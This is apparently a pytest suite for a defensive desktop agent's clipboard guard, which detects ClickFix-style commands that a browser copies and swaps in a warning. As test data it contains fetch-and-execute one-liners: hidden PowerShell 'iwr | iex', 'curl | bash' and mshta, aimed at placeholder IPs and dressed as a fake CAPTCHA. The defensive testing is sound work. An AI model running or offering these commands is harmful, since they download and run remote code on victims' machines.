"""The clipboard guard on the real X11 clipboard (Xvfb): programs that copy are real
processes — ``xclip`` run under a browser's name ("chromium") or an editor's ("code") —
and what the clipboard holds afterwards is read back with the real ``xclip -o``.
The Windows and macOS clipboards are tested against fakes of their lowest calls."""
from __future__ import annotations

import queue
import shutil
import subprocess
import threading

import pytest

from agent.config import Settings
from agent.platform.base import WindowInfo
from agent.platform.clipboard import PollingClipboard
from agent.watch import catalog as catalog_mod
from agent.watch.clickfix import FollowUp, places
from agent.watch.clipboard import ClipboardGuard
from tests.waiting import wait_for

COMMAND = 'powershell -w hidden -c "iwr http://192.0.2.10/v.ps1 | iex" # I am not a robot - ID 4821'
RECIPE = "Apple pie: 6 apples, 200 g of flour. Bake for 40 minutes."


def xclip_out(target: str = "UTF8_STRING") -> str:
    out = subprocess.run(["xclip", "-o", "-selection", "clipboard", "-t", target], capture_output=True,
                         text=True, timeout=10)
    return out.stdout


@pytest.fixture
def copier(desktop, tmp_path):
    """copy(text, as_name): a real xclip process, renamed, owning the CLIPBOARD."""
    if not shutil.which("xclip"):
        pytest.skip("xclip is not installed (scripts/setup.sh --test installs it)")
    procs = []

    def copy(text: str, as_name: str = "chromium") -> subprocess.Popen:
        exe = tmp_path / as_name
        if not exe.exists():
            shutil.copy(shutil.which("xclip"), exe)
        # -quiet: stays in the foreground, so the owner's pid is this very process
        p = subprocess.Popen([str(exe), "-quiet", "-selection", "clipboard"], stdin=subprocess.PIPE,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, text=True)
        p.stdin.write(text)
        p.stdin.close()
        procs.append(p)
        return p

    yield copy
    for p in procs:
        p.kill()
        p.wait()


@pytest.fixture
def guard(desktop):
    """A running guard on the real X11 clipboard; ``g.triggers`` gets what it puts."""
    made = []

    def start(settings=None, paused=lambda: False):
        from agent import platform
        q: queue.Queue = queue.Queue()
        stop = threading.Event()
        backend = platform.create("x11")
        g = ClipboardGuard(catalog_mod.get(), settings or Settings(language="en"), q.put, stop,
                           backend=backend, paused=paused)
        g.triggers, g.stop_flag = q, stop
        g.start()
        assert g.ready.wait(10)
        made.append(g)
        return g

    yield start
    for g in made:
        g.stop_flag.set()
        g.join(5)


def next_trigger(g, timeout=20.0):
    try:
        return g.triggers.get(timeout=timeout)
    except queue.Empty:
        return None


def test_command_copied_by_a_browser_is_replaced(guard, copier):
    g = guard()
    p = copier(COMMAND, "chromium")
    trig = next_trigger(g)
    assert trig is not None and trig.kind == "clickfix"
    assert trig.details["command"] == COMMAND and trig.details["browser"] == "chromium"
    assert trig.details["replaced"] is True and "execute" in trig.details["verdict"]["signals"]
    assert trig.process["pid"] == p.pid and trig.process["name"] == "chromium"
    harmless = "Vigie removed a dangerous command that a web page copied here."
    assert wait_for(lambda: xclip_out() == harmless, 10)
    assert xclip_out("STRING") == harmless and "UTF8_STRING" in xclip_out("TARGETS")
    assert wait_for(lambda: p.poll() is not None, 10), "the browser lost the clipboard to Vigie"
    assert g.follow is not None and g.follow.command == COMMAND


def test_the_sentence_is_in_the_users_language(guard, copier):
    g = guard(Settings(language="fr"))
    copier("curl -s http://192.0.2.30/install.sh | bash", "chromium")
    assert next_trigger(g).kind == "clickfix"
    assert wait_for(lambda: "commande dangereuse" in xclip_out(), 10)


def test_an_editor_or_ordinary_text_stays_untouched(guard, copier):
    g = guard()
    copier(COMMAND, "code")                 # copied in a code editor: not a browser
    assert wait_for(lambda: xclip_out() == COMMAND, 10)
    copier(RECIPE, "chromium")              # a browser copying a recipe
    assert wait_for(lambda: xclip_out() == RECIPE, 10)
    copier("https://www.example.org/recipes/apple-pie?id=42", "chromium")
    assert wait_for(lambda: xclip_out().startswith("https://"), 10)
    # a command from the browser now: the guard has handled the three copies before it
    copier(COMMAND, "chromium")
    first = next_trigger(g)
    assert first.kind == "clickfix" and first.details["command"] == COMMAND
    assert next_trigger(g, timeout=1.0) is None


def test_same_command_again_is_replaced_again_but_alerted_once(guard, copier):
    g = guard()
    copier(COMMAND, "chromium")
    assert next_trigger(g).kind == "clickfix"
    assert wait_for(lambda: xclip_out().startswith("Vigie"), 10)
    again = copier(COMMAND, "chromium")     # the page writes it again
    assert wait_for(lambda: again.poll() is not None, 10), "replaced again"
    assert xclip_out().startswith("Vigie")
    copier("mshta http://192.0.2.21/verify.hta", "chromium")   # another command: a new alert
    trig = next_trigger(g)
    assert trig.details["command"].startswith("mshta") and g.triggers.empty()


def test_paused_guard_reads_nothing(guard, copier):
    g = guard(paused=lambda: True)
    copier(COMMAND, "chromium")
    assert wait_for(lambda: xclip_out() == COMMAND, 10)
    assert next_trigger(g, timeout=2.0) is None
    assert xclip_out() == COMMAND


def test_large_text_is_read_in_increments(desktop, copier):
    from agent.platform.clipboard_x11 import X11Clipboard
    clip = X11Clipboard()
    try:
        text = "powershell -c iwr http://192.0.2.1/a | iex " + "#" * 400000
        p = copier(text, "chromium")
        change = None
        for _ in range(20):
            change = clip.wait(1.0)
            if change is not None:
                break
        assert change is not None and change.owner_pid == p.pid
        assert clip.read_text(change, timeout=10) == text
    finally:
        clip.close()


# -- after the copy: the Run box, a terminal (pure rules on plain WindowInfo) -----------------
def test_run_box_or_terminal_in_front_repeats_the_warning():
    t = [0.0]
    f = FollowUp(COMMAND, {"command": COMMAND, "browser": "chrome"}, front_id=1, clock=lambda: t[0])
    chrome = WindowInfo(id=1, title="Verify - Google Chrome", process_name="chrome.exe", wm_class="Chrome_WidgetWin_1")
    run_box = WindowInfo(id=2, title="Run", process_name="explorer.exe", wm_class="#32770")
    other_dialog = WindowInfo(id=3, title="Properties", process_name="explorer.exe", wm_class="#32770")
    term = WindowInfo(id=4, title="Windows PowerShell", process_name="WindowsTerminal.exe",
                      wm_class="CASCADIA_HOSTING_WINDOW_CLASS")
    assert f.window(chrome) is None and f.window(other_dialog) is None
    trig = f.window(run_box)
    assert trig.kind == "clickfix_repeat" and trig.details["place"] == "run_box"
    assert f.window(run_box) is None                      # once per window
    t[0] = 30.0
    assert f.window(term).details["place"] == "terminal"
    t[0] = 61.0
    late = WindowInfo(id=5, title="Exécuter", process_name="explorer.exe", wm_class="#32770")
    assert f.window(late) is None                         # after a minute: no more repeats
    fr = FollowUp(COMMAND, {}, clock=lambda: 0.0)
    assert fr.window(late).details["place"] == "run_box"
    assert places().place_of(WindowInfo(id=9, process_name="xterm", wm_class="xterm.XTerm")) == "terminal"


def test_process_started_from_run_box_with_the_command():
    f = FollowUp(COMMAND, {"browser": "chrome"}, clock=lambda: 0.0)
    info = {"pid": 42, "name": "powershell.exe", "cmdline": ["powershell", "-w", "hidden", "-c",
                                                             "iwr http://192.0.2.10/v.ps1 | iex", "#", "I"]}
    assert f.process(info, ["svchost.exe"]) is None        # not from the Run box or a terminal
    assert f.process({**info, "cmdline": ["powershell"]}, ["explorer.exe"]) is None
    trig = f.process(info, ["explorer.exe", "userinit.exe"])
    assert trig.kind == "risky_context" and trig.details["kind"] == "clickfix_paste"
    assert trig.details["launcher"] == "explorer.exe" and not f.active


def test_places_file_missing_falls_back(tmp_path):
    places.cache_clear()
    p = places(str(tmp_path))
    assert p.place_of(WindowInfo(id=1, title="Run", process_name="explorer.exe", wm_class="#32770")) == "run_box"
    places.cache_clear()


# -- Windows / macOS: the shared polling logic against their lowest calls --------------------
class FakeWinClipboardApi:
    """GetClipboardSequenceNumber, GetClipboardOwner→pid, CF_UNICODETEXT read/write."""

    def __init__(self):
        self.seq, self.text, self.pid, self.busy = 7, "", 0, 0

    def copy(self, text, pid):
        self.seq, self.text, self.pid = self.seq + 1, text, pid

    def serial(self):
        return self.seq

    def owner(self):
        return self.pid, 0x1234 if self.pid else 0

    def read_text(self):
        if self.busy:
            self.busy -= 1
            raise OSError("the clipboard is open in another program")
        return self.text

    def write_text(self, text):
        self.seq, self.text, self.pid = self.seq + 2, text, 0   # EmptyClipboard + SetClipboardData
        return True


def test_polling_clipboard_windows_logic():
    api = FakeWinClipboardApi()
    clip = PollingClipboard(api, sleep=lambda s: None)
    assert clip.wait(0.01) is None
    api.copy(COMMAND, 4242)
    change = clip.wait(1.0)
    assert change.owner_pid == 4242 and change.owner_window == 0x1234 and change.serial == 8
    api.busy = 3                                           # another program holds it open a moment
    assert clip.read_text(change) == COMMAND
    assert clip.replace("harmless") and api.text == "harmless"
    assert clip.wait(0.01) is None                         # our own write is no change
    api.busy = 10 ** 6
    assert clip.read_text(change, timeout=0.05) is None


def test_guard_reads_nothing_from_programs_that_are_not_browsers():
    """Privacy: the text is read only when a browser wrote it (Windows-like api)."""
    import os
    api = FakeWinClipboardApi()
    reads = []
    real_read = api.read_text
    api.read_text = lambda: reads.append(1) or real_read()
    clip = PollingClipboard(api, sleep=lambda s: None)
    g = ClipboardGuard(catalog_mod.get(), Settings(language="en"), lambda t: None, threading.Event(),
                       open_clipboard=lambda: clip)
    api.copy(COMMAND, os.getpid())                         # this python process: not a browser
    change = clip.wait(1.0)
    assert g.on_change(clip, change) is None and reads == [] and api.text == COMMAND



# -- wiring: the agent's own threads on the fake desktop ----------------------------------------
def test_agent_wiring_setting_and_pause(tmp_path):
    """The guard runs in the agent (unless ``clipboard.guard = false``); its trigger goes
    through the worker to a ``clickfix`` event; a paused agent leaves the clipboard alone.
    The owner is unknown here (macOS-like): the browser in front stands for it."""
    from agent import events
    from agent.app import Agent
    from agent.platform.clipboard import FakeClipboard
    from agent.platform.fake import FakeBackend
    from tests.waiting import wait_event
    chrome = WindowInfo(id=7, title="Verify you are human - Google Chrome", pid=None, process_name="chrome",
                        wm_class="google-chrome.Google-chrome")
    off = Agent(Settings(clipboard_guard=False), [], backend=FakeBackend([chrome]), downloads_dir=tmp_path)
    off.start()
    try:
        assert "vigie-clipboard" not in [t.name for t in off._threads]
    finally:
        off.stop()
    clip = FakeClipboard()
    a = Agent(Settings(language="en"), [], backend=FakeBackend([chrome]), downloads_dir=tmp_path, clipboard=clip)
    a.start()
    try:
        a.pause(600)
        clip.copy(COMMAND, None)
        assert wait_for(lambda: clip.text == COMMAND, 10)       # the guard took it...
        waits = clip.waits
        assert wait_for(lambda: clip.waits > waits, 10)          # ...and is waiting again
        a.resume()
        clip.copy("mshta http://192.0.2.21/verify.hta", None)
        ev = wait_event(lambda e: e["type"] == "clickfix", 30)
        assert ev["command"].startswith("mshta") and ev["browser"] == "chrome" and ev["title"] == chrome.title
        assert clip.replaced == ["Vigie removed a dangerous command that a web page copied here."]
        assert [e["type"] for e in events.read()].count("clickfix") == 1 and a.state == "alert"
    finally:
        a.stop()


def test_a_failing_clipboard_is_reopened():
    """A clipboard whose connection died (every wait raises) is replaced by a fresh one."""
    from agent.platform.clipboard import FakeClipboard

    class Dead(FakeClipboard):
        def wait(self, timeout):
            raise ConnectionError("the X server went away")
    opened = [Dead(), FakeClipboard()]
    errors = []
    stop = threading.Event()
    g = ClipboardGuard(catalog_mod.get(), Settings(language="en"), lambda t: None, stop,
                       open_clipboard=lambda: opened.pop(0) if opened else FakeClipboard(),
                       on_error=lambda kind, exc: errors.append(kind))
    import agent.watch.clipboard as guard_mod
    old, guard_mod.ERROR_BACKOFF_SECONDS = guard_mod.ERROR_BACKOFF_SECONDS, 0.01
    try:
        g.start()
        assert wait_for(lambda: not opened, 10) and errors == ["clipboard"]
    finally:
        stop.set()
        g.join(5)
        guard_mod.ERROR_BACKOFF_SECONDS = old
    assert not g.is_alive()


def test_compositor_owner_stands_for_the_window_in_front(tmp_path):
    """Under Wayland the compositor owns the X11 clipboard for the app: a real process
    named gnome-shell copies, the browser in front is taken as the writer."""
    from agent.platform.fake import FakeBackend
    exe = tmp_path / "gnome-shell"
    shutil.copy("/bin/sleep", exe)
    shell = subprocess.Popen([str(exe), "60"])
    try:
        chrome = WindowInfo(id=3, title="Verify you are human - Google Chrome", pid=None, process_name="chrome")
        put = []
        api = FakeWinClipboardApi()
        clip = PollingClipboard(api, sleep=lambda s: None)
        g = ClipboardGuard(catalog_mod.get(), Settings(language="en"), put.append, threading.Event(),
                           backend=FakeBackend([chrome]), open_clipboard=lambda: clip)
        api.copy(COMMAND, shell.pid)
        trig = g.on_change(clip, clip.wait(1.0))
        assert trig is not None and trig.details["browser"] == "chrome" and trig.window.title == chrome.title
        assert api.text.startswith("Vigie removed")
        g.backend = FakeBackend([WindowInfo(id=4, title="notes.txt - Text Editor", process_name="gedit")])
        api.copy("curl -s http://192.0.2.30/v | bash", shell.pid)
        assert g.on_change(clip, clip.wait(1.0)) is None     # an editor in front: left alone
    finally:
        shell.kill()
        shell.wait()
